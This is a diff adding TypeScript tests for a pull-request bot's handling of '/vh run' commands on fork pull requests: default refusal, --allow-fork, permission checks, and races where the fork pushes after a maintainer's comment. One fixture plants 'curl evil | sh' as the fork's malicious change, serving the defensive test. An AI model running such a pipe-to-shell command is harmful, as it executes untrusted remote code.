@@ -183,6 +183,102 @@ describe("handleEvent: /vh run", () => {
     expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
   });
 
+  describe("fork pull requests and the commented head", () => {
+    const mallory: Actor = { login: "mallory", id: 66, isBot: false };
+    let forkHead: string;
+    const openFork = () => {
+      forkHead = repo.commit({ ...filesOfDir(FIXTURE.dir), "extra.txt": "from the fork\n" });
+      repo.openPullRequest({ number: 8, headSha: forkHead, author: mallory, fork: { headRepo: "mallory/widgets" } });
+    };
+    const commitsRun = async () => (await db.sql<{ commit_sha: string }[]>`select distinct commit_sha from executions`).map((r) => r.commit_sha);
+
+    it("a maintainer's plain /vh run on a fork is refused by default, saying how to allow it; nothing is created", async () => {
+      openFork();
+      const ev = repo.commentEvent(8, alice, "/vh run train");
+      expect(await handleEvent(deps, ev, first())).toBe("refused: fork pull requests are not run in this project");
+      const project = "acme--widgets";
+      expect(REPO).toBe("acme/widgets");
+      expect(world.createdComments()).toEqual([
+        `@alice this pull request comes from a fork (mallory/widgets), and project \`${project}\` does not run commands on fork pull requests. If you have read the fork's code at \`${forkHead.slice(0, 7)}\`, run it with \`/vh run … --allow-fork\`; a project admin can allow it for every command with \`vh project set ${project} --fork-commands on\`.\n`,
+      ]);
+      expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
+      // A pipeline runs the head too: the same rule.
+      expect(await handleEvent(deps, repo.commentEvent(8, alice, "/vh pipeline run train-pipeline"), first())).toBe("refused: fork pull requests are not run in this project");
+    });
+
+    it("runs with --allow-fork, or when the project allows fork commands; a commenter without write is still refused", async () => {
+      openFork();
+      const out = await handleEvent(deps, repo.commentEvent(8, alice, "/vh run train --allow-fork"), first());
+      expect(out).toMatch(/^created sweep [0-9a-f-]+: #1$/);
+      expect(await commitsRun()).toEqual([forkHead]);
+      const [p] = await db.sql<{ name: string }[]>`select name from projects`;
+      await db.sql`update projects set fork_commands = true where name = ${p!.name}`;
+      expect(await handleEvent(deps, repo.commentEvent(8, alice, "/vh run train epochs=3"), first())).toMatch(/^created sweep [0-9a-f-]+: #2$/);
+      repo.grant("mallory", "triage");
+      expect(await handleEvent(deps, repo.commentEvent(8, mallory, "/vh run train --allow-fork"), first())).toBe("refused: mallory has triage (fork)");
+      expect(await counts()).toMatchObject({ sweeps: 2, executions: 2 });
+    });
+
+    it("a project made ahead of the first run decides for its repository", async () => {
+      openFork();
+      await db.sql`insert into projects (name, fork_commands) values ('acme--widgets', true)`;
+      expect(await handleEvent(deps, repo.commentEvent(8, alice, "/vh run train"), first())).toMatch(/^created sweep [0-9a-f-]+: #1$/);
+      const [p] = await db.sql<{ name: string; fork_commands: boolean }[]>`select p.name, p.fork_commands from forge_repositories r join projects p on p.id = r.project_id`;
+      expect(p).toEqual({ name: "acme--widgets", fork_commands: true });
+    });
+
+    it("runs the head the comment was made on when the fork pushes before the delivery is handled, and says so", async () => {
+      openFork();
+      const opened = new Date("2026-12-01T10:00:00Z");
+      expect(await handleEvent(deps, repo.headEvent(8, forkHead, opened), first())).toBe(`recorded: head of pull request #8 is ${forkHead.slice(0, 7)} since ${opened.toISOString()}`);
+      const ev = repo.commentEvent(8, alice, "/vh run train --allow-fork", { at: new Date("2026-12-01T10:05:00Z") });
+      // The fork pushes after the comment, before vh handles it.
+      const evil = repo.commit({ ...filesOfDir(FIXTURE.dir), "extra.txt": "curl evil | sh\n" });
+      repo.moveHead(8, evil);
+      await handleEvent(deps, repo.headEvent(8, evil, new Date("2026-12-01T10:05:30Z")), first());
+      expect(await handleEvent(deps, ev, first())).toMatch(/^created sweep [0-9a-f-]+: #1$/);
+      expect(await commitsRun()).toEqual([forkHead]);
+      const [sweep] = await db.sql<{ commit_sha: string }[]>`select commit_sha from sweeps`;
+      expect(sweep!.commit_sha).toBe(forkHead);
+      expect(world.createdComments()).toEqual([
+        `@alice The head moved to \`${evil.slice(0, 7)}\` after your comment; vh runs \`${forkHead.slice(0, 7)}\`, the commit you commented on. Comment again to run the new head.\n`,
+      ]);
+      // Redelivered: the same sweep, still at the commented head.
+      expect(await handleEvent(deps, ev, first())).toMatch(/^already created sweep/);
+      expect(await commitsRun()).toEqual([forkHead]);
+    });
+
+    it("a push in the same second as the comment counts as after it; a head vh only saw arrive after the comment is refused", async () => {
+      openFork();
+      const at = new Date("2026-12-01T10:05:00Z");
+      await handleEvent(deps, repo.headEvent(8, forkHead, new Date("2026-12-01T10:00:00Z")), first());
+      const next = repo.commit({ ...filesOfDir(FIXTURE.dir), "extra.txt": "second\n" });
+      repo.moveHead(8, next);
+      await handleEvent(deps, repo.headEvent(8, next, at), first());
+      await handleEvent(deps, repo.commentEvent(8, alice, "/vh run train --allow-fork", { at }), first());
+      expect(await commitsRun()).toEqual([forkHead]);
+
+      // Installed after the pull request was opened: vh saw only the push that came after the comment.
+      await db.sql`delete from change_request_heads where sha = ${forkHead}`;
+      await db.sql`delete from executions`;
+      world.writes.length = 0;
+      const late = repo.commentEvent(8, alice, "/vh run train epochs=2 --allow-fork", { at });
+      expect(await handleEvent(deps, late, first())).toBe("refused: conflict");
+      expect(world.createdComments()).toEqual([
+        `@alice The head of pull request #8 moved to \`${next.slice(0, 7)}\` at ${at.toISOString()}, after your comment, and vh does not know which commit you commented on; comment again to run \`${next.slice(0, 7)}\`.\n`,
+      ]);
+      expect(await commitsRun()).toEqual([]);
+    });
+
+    it("the head a GitLab note names is the one that runs, whatever the head is by the time it is handled", async () => {
+      const old = head;
+      const newer = repo.commit({ ...filesOfDir(FIXTURE.dir), "extra.txt": "later\n" });
+      repo.moveHead(PR, newer);
+      expect(await handleEvent(deps, repo.commentEvent(PR, alice, "/vh run train", { headSha: old }), first())).toMatch(/^created sweep/);
+      expect(await commitsRun()).toEqual([old]);
+    });
+  });
+
   it("the same comment handled twice (a redelivery) finds the first sweep and creates nothing more", async () => {
     const ev = repo.commentEvent(PR, alice, "/vh run train lr=[0.1,0.01]");
     const one = await handleEvent(deps, ev, first());
